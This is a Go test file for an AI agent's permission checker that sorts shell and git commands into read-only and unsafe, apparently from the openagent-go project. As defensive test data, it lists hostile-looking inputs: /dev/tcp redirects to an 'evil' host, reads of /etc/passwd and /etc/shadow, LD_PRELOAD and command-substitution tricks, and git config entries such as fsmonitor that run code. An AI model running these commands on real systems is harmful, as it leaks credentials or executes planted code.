package cmdline

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openagent-go/agent/internal/rules/paths"
	"github.com/openagent-go/agent/internal/rules/permtest"
)

func reads(dir, line string) string {
	s := NewLine(paths.NewContext(dir, nil), line)
	return s.WhyNotRead(false)
}

func TestReadOnlyCommands(t *testing.T) {
	dir := permtest.Tree(t)
	t.Setenv("HOME", filepath.Dir(dir))
	for _, line := range []string{
		"ls", "ls -la src", "ls -R --color=auto", "/bin/ls", "cat a.txt b.txt", "cat -n < a.txt", "cat src/*.go", "cat *.txt", "head -n 5 a.txt", "head -5 a.txt",
		"tail -f a.txt", "wc -l *.txt", "pwd", "echo hi", "echo \"$x\" $? 'a b'", "printf '%s\\n' \"$x\"", "grep -rn foo .", "grep -e x -e y src", "grep '/etc/passwd' a.txt",
		"rg -n foo src", "rg --files", "find . -name '*.go' -type f", "find src -newer a.txt -print0", "sort -u a.txt", "sort -k2,2 -t, a.txt", "uniq -c a.txt",
		"cut -d: -f1 a.txt", "tr a-z A-Z < a.txt", "diff -u a.txt b.txt", "sed -n 1,20p a.txt", "sed -n '$p' a.txt", "date +%s", "which go", "command -v go", "type ls",
		"ls | wc -l", "ls && pwd; true || false", "(ls; cat a.txt)", "if [ -f a.txt ]; then cat a.txt; fi", "[[ -d src ]] && ls src", "for i in 1 2; do echo \"$i\"; done",
		"while true; do ls; done", "! ls", "time ls", "timeout 5 ls", "nice -n 5 ls", "env x=1 ls", "LC_ALL=C ls", "ls > /dev/null 2>&1", "ls 2>/dev/null", "ls &", "x=1",
		"cat <<E\nhi $x\nE", "cat <<< hi", "echo \"$(cat a.txt | wc -l)\" \"$(pwd)\"", "echo \"`pwd`\"", "diff <(cat a.txt) <(cat b.txt)", "cd src && ls", "cd src && cat main.go", "cd src; ls",
		"cd src && cd .. && ls", "cat in/main.go", "cat src/../a.txt", "cat ~/w/a.txt", "cat $HOME/w/a.txt", "cat \"$HOME\"/w/a.txt", "stat -c %s a.txt", "du -sh src", "node --version", "test -n \"\"",
	} {
		if why := reads(dir, line); why != "" {
			t.Errorf("%q is not taken for read-only: %s", line, why)
		}
	}
	for _, line := range []string{
		"rg -L x", "rg -nL x .", "rg --files -L", "rg --follow x", "rg --foll x", "ls -LR", "ls -RL src", "ls -L", "ls --dereference src", "du -L", "tree -l", "grep -R x .", "find -H . -follow",
		"rm x", "touch x", "ls; rm x", "ls\nrm x", "ls $(rm x)", "cat <(rm x)", "ls > x", "ls >> x", "echo x > ~/.bashrc", "ls &> x", "ls >| x", "ls <> x", ": > x", "> x", "ls 2> x",
		"find . -delete", "find . -exec cat {} +", "find . -fprint x", "find . -fls x", "find / -name x", "find -L . -name x", "find . -name $(rm x)",
		"git -c core.pager=x log", "rg --pre x y", "rg --hostname-bin x y", "sort -o x a.txt", "sort a.txt -o x", "sort --output=x a.txt", "sort --outp=x a.txt", "sort --compress-program=x a.txt", "sort -T /x a.txt",
		"uniq a.txt out.txt", "less a.txt", "man ls", "date -s 1", "date 01010101", "date --set=x", "tree -o x", "file -C -m x", "sed -i s/a/b/ a.txt", "sed -n 'w x' a.txt", "sed 1p a.txt", "sed -n 1p -i a.txt", "awk 1 a.txt",
		"FOO=1 ls", "PATH=. ls", "LD_PRELOAD=./x ls", "GIT_PAGER=x ls", "env -i ls -x=$(rm)", "{rm,-rf} x", "ls {a,$(rm)}", "$x", "ls $x", "cat $x", "cat \"$x\"", "echo $x", "echo ${x@P}", "echo $((x))", "i=1; echo $((i))",
		"cat /etc/passwd", "cat /etc/*", "echo /etc/*", "cat ../out/data", "cat leak", "cat away/data", "cat le*", "cat */data", "cat < /etc/passwd", "cat < leak", "ls ..", "ls ~", "ls $HOME", "cd ..", "cd", "cd ~", "cd -", "cd / && ls", "cd away && ls",
		"cd nowhere; cat ../x", "cd src; cat ../../x", "cd src && cat ../../out/data", "cd src || cat ../out/data", "cd in && cat ../../out/data", "cd \"$x\" && ls", "while cd ..; do cat x; done", "f() { cd ..; }; f; ls",
		"bash -c ls", "sh a.sh", "./ls", "src/ls", "/tmp/ls", "eval ls", "xargs ls", "xargs rm", "sudo ls", "exec ls", "ls() { rm x; }; ls", "trap ls EXIT", "alias ls=rm", "export x=1", "read x", "set -x", "source x", "kill 1",
		"for f in /etc/*; do echo \"$f\"; done", "cat **/*.go", "cat [a-z]*", "grep x $(cat a.txt)", "grep -f /etc/passwd a.txt", "grep -ie root /etc/shadow", "grep -R x .", "diff -r src secret", "diff src secret", "diff a.txt src", "head -c5 /etc/passwd", "tail -n 5 -- /etc/passwd",
		"wc --files0-from=/etc/passwd", "ls --hide", "cat --unknown a.txt", "go env -w A=b", "go list ./...", "python3 -c 1", "make", "npm test", "curl x", "coproc ls", "ls | tee x", "ls )", "cat <<E\n$(rm x)\nE",
		"echo a >/dev/tcp/evil/80", "cat </dev/tcp/evil/80", "ps e", "env", "printenv", "history", "sleep 1 & kill $!", "git diff --no-index /etc/passwd a.txt", "test -v 'a[$(rm x)]'", "printf -v x a", "cat a.txt\x00",
		"sed -n 1p /etc/passwd", "sed -n 1p leak", "sed -n '$p' a.txt ../out/data", "sed -nE 1p -- /etc/passwd",
	} {
		if why := reads(dir, line); why == "" {
			t.Errorf("%q is taken for read-only", line)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "-o"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]bool{"sort *": false, "sort ./*.txt": true, "cat ./*.txt": true} {
		if got := reads(dir, line) == ""; got != want {
			t.Errorf("beside a file named -o %q: read-only is %v", line, got)
		}
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "src", "leak")); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]bool{"cat leak": false, "cat main.go": true, "cat ../a.txt": true, "cat ../../out/data": false} {
		s := NewLine(paths.NewContext(dir, nil).At(filepath.Join(dir, "src")), line)
		if why := s.WhyNotRead(false); (why == "") != want {
			t.Errorf("%s from src: %s", line, why)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "-vPATH"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"printf *; ls", "printf ?vPATH; ls"} {
		if reads(dir, line) == "" {
			t.Errorf("%q sets PATH and is taken for read-only", line)
		}
	}
	if reads("", "ls") == "" || reads("relative", "ls") == "" {
		t.Error("a command in an unknown folder is taken for read-only")
	}
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v: %s", args, err, out)
	}
}

func TestReadOnlyGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	dir := t.TempDir()
	git(t, dir, "init", "-q", "repo")
	repo := filepath.Join(dir, "repo")
	for _, line := range []string{
		"git status", "git status -sb", "git diff", "git diff --stat HEAD~1 -- src", "git diff --cached", "git log --oneline -n 5", "git log -5 -p src", "git show HEAD:a.txt", "git --no-pager log", "git branch", "git branch -a",
		"git branch --list", "git tag -l", "git remote -v", "git rev-parse --abbrev-ref HEAD", "git ls-files", "git blame a.txt", "git grep -n foo", "git stash list", "git worktree list", "git describe --tags",
	} {
		if why := reads(repo, line); why != "" {
			t.Errorf("%q is not taken for read-only: %s", line, why)
		}
	}
	changing := []string{
		"git", "git commit", "git push", "git branch x", "git branch -D x", "git branch -m x", "git tag x", "git tag -d x", "git remote add x y", "git stash", "git stash pop", "git worktree add x", "git checkout .", "git reset --hard",
		"git log --output=x", "git log --outpu=x", "git diff --ext-diff", "git diff --textconv", "git diff --no-index a b", "git diff -O/x", "git -c core.pager=x log", "git -C .. status", "git --git-dir=x status", "git --exec-path=x status", "git -p log",
		"git log --format=%G?", "git log --show-signature", "git grep -O x", "git grep --open-files-in-pager=x y", "git grep --no-index x", "git ls-remote --upload-pack=x y", "git show --ext-diff", "git config -l", "git help log", "git diff $x",
		"git rev-parse --parseopt", "git cat-file --textconv x", "git show /etc/passwd", "git diff /etc/passwd /etc/shadow", "git diff {a,b}", "git fetch", "git foo", "git reflog expire",
	}
	for _, line := range changing {
		if why := reads(repo, line); why == "" {
			t.Errorf("%q is taken for read-only", line)
		}
	}
	config := filepath.Join(repo, ".git", "config")
	plain, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	for _, more := range []string{"[core]\n\tfsmonitor = ./evil\n", "[core] fsmonitor=x\n", "[diff \"x\"]\n\ttextconv = x\n", "[filter \"x\"]\n\tclean = x\n", "[include]\n\tpath = x\n", "[core]\n\thooksPath = x\n", "[user]\n\tname = a\\\n", "[core]\n\tworktree = /\n", strings.Repeat("#\n", paths.MaxConfig)} {
		if err := os.WriteFile(config, append([]byte(more), plain...), 0o600); err != nil {
			t.Fatal(err)
		}
		if reads(repo, "git status") == "" {
			t.Errorf("git status is taken for read-only with the setting %.40q", more)
		}
	}
	if err := os.WriteFile(config, append(plain, "[remote \"origin\"]\n\turl = https://x/y\n\tfetch = +refs/*:refs/*\n[branch \"main\"]\n\tremote = origin\n"...), 0o600); err != nil {
		t.Fatal(err)
	}
	if why := reads(repo, "git status"); why != "" {
		t.Errorf("git status beside a remote: %s", why)
	}
	git(t, repo, "init", "-q", "module")
	git(t, repo, "-C", "module", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
	git(t, repo, "add", "module")
	for line, want := range map[string]bool{"git status": false, "git --no-pager diff": false, "git log": true} {
		if why := reads(repo, line); (why == "") != want {
			t.Errorf("beside a submodule, whose settings count for some commands, %q: %q", line, why)
		}
	}
	git(t, repo, "rm", "-q", "-f", "--cached", "module")
	if err := os.RemoveAll(filepath.Join(repo, "module")); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "update-index", "--split-index")
	if reads(repo, "git status") == "" {
		t.Error("git status is taken for read-only though not all of the index is known")
	}
	git(t, repo, "update-index", "--no-split-index")
	for _, part := range []string{"index", "sharedindex.*"} {
		names, _ := filepath.Glob(filepath.Join(repo, ".git", part))
		for _, n := range names {
			_ = os.Remove(n)
		}
	}
	hook := filepath.Join(repo, ".git", "hooks", "post-index-change")
	if err := os.MkdirAll(filepath.Dir(hook), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hook, nil, 0o700); err != nil {
		t.Fatal(err)
	}
	if reads(repo, "git status") == "" {
		t.Error("git status is taken for read-only though a hook would run")
	}
	_ = os.Remove(hook)

	git(t, repo, "init", "-q", "--bare", "planted")
	if reads(repo, "cd planted && git status") == "" || reads(filepath.Join(repo, "planted"), "git log") == "" {
		t.Error("a planted bare repository is trusted")
	}
	if reads(repo, "cd .git && git log") == "" {
		t.Error("git is trusted within .git")
	}
	sub := filepath.Join(repo, "sub")
	if err := os.Mkdir(sub, 0o700); err != nil {
		t.Fatal(err)
	}
	if reads(sub, "git show HEAD:../secret") == "" {
		t.Error("a repository that is larger than the roots is shown")
	}
	s := NewLine(paths.NewContext(sub, []string{repo}), "git status")
	if why := s.WhyNotRead(false); why != "" {
		t.Errorf("git status below the root: %s", why)
	}
	git(t, repo, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
	git(t, repo, "worktree", "add", "-q", filepath.Join(dir, "tree"))
	if why := reads(filepath.Join(dir, "tree"), "git status"); why != "" {
		t.Errorf("git status in a work tree: %s", why)
	}
	if err := os.WriteFile(config, append(plain, "[core]\n\tfsmonitor = x\n"...), 0o600); err != nil {
		t.Fatal(err)
	}
	if reads(filepath.Join(dir, "tree"), "git status") == "" {
		t.Error("the settings of a work tree's repository are not looked at")
	}
}
